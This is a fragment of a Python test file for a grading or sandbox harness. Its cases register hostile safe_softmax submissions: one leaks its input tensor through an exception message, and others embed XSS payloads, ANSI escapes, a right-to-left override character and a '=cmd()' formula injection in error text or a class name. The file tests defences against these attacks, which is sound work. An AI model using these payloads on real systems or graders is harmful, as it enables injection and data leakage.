""", "nothing works")  # fmt: skip

# ---- what is said ------------------------------------------------------------------------------------------

attack("smuggles its inputs out in a message", "smuggling", """
    def safe_softmax(s):
        raise ValueError(str(s.flatten().tolist()))
""", "ValueError: [")  # fmt: skip
attack("markup, colours and hidden characters in a message", "smuggling", """
    def safe_softmax(s):
        raise ValueError("<script>alert(1)</script><img src=x onerror=alert(1)> \\x1b[31m\\u202e =cmd() \\0 &lt;")
""", "<script>")  # fmt: skip
attack("a name that is markup", "smuggling", """
    def safe_softmax(s):
        return type("<script>alert(1)</script>", (), {})()
""", "expected a torch.Tensor")  # fmt: skip
